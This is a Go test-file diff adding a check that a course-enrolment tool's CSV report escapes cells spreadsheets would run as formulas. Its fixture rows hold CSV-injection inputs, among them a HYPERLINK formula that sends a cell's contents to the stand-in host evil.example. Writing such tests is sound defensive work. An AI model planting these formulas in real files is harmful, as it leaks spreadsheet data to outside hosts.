@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"crypto/rand"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -14,6 +15,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strconv"
 	"strings"
 	gosync "sync"
 	"testing"
@@ -349,4 +351,62 @@ func TestSecretsNotOnScreen(t *testing.T) {
 		t.Fatalf("the front saw %d tokens issued, want 1", len(tokens))
 	}
 	scan.check(append(tokens, front.password), []string{work, home}, "", "")
+}
+
+// TestReportEscapesFormulas: cells a spreadsheet would run as formulas
+// (here emails, valid and not, that start with = + - @) reach the report
+// CSV as text: with a leading apostrophe.
+func TestReportEscapesFormulas(t *testing.T) {
+	srv, tok := sandboxToken(t, sandbox.Options{Users: 10, Seed: 83})
+	dir := t.TempDir()
+	file := filepath.Join(dir, "formulas.csv")
+	rows := "First Name,Last Name,Email,Products\n" +
+		"Eve,Formula,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",scheduling\n" +
+		"Eve,At,@SUM(1+1)!A0,scheduling\n" +
+		"Plus,Sign,+plus@example.edu,scheduling\n" +
+		"Dash,Sign,-cmd@example.edu,catalog\n" +
+		"Plain,Row,plain.row@example.edu,catalog\n"
+	if err := os.WriteFile(file, []byte(rows), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	report := filepath.Join(dir, "report.csv")
+	getenv := func(k string) string {
+		if k == coursedog.EnvToken {
+			return tok
+		}
+		return ""
+	}
+	code, _, stderr := runCommand(t, getenv, "", 30*time.Second, "apply", file, "--env", srv.URL(), "--school", sandbox.DemoSchool,
+		"--yes", "--no-registration-mail", "--report", report, "--journal", filepath.Join(dir, "j.jsonl"), "--backup", filepath.Join(dir, "b.json"))
+	if code != exitRowsFailed {
+		t.Fatalf("apply: exit %d, want 1 (two rows skipped):\n%s", code, stderr)
+	}
+	if _, ok := srv.User("-cmd@example.edu"); !ok {
+		t.Fatal("the valid -cmd@example.edu was not created: the test would not show its cell escaped")
+	}
+	f, err := os.Open(report)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	cells, err := csv.NewReader(f).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	escaped := 0
+	for _, row := range cells {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				if _, err := strconv.ParseFloat(cell, 64); err != nil {
+					t.Errorf("report cell %q would run as a formula", cell)
+				}
+			}
+			if strings.HasPrefix(cell, "'") {
+				escaped++
+			}
+		}
+	}
+	if len(cells) != 6 || escaped < 4 {
+		t.Errorf("report has %d lines and %d escaped cells, want 6 lines (header + 5 rows) and 4 escaped:\n%v", len(cells), escaped, cells)
+	}
 }
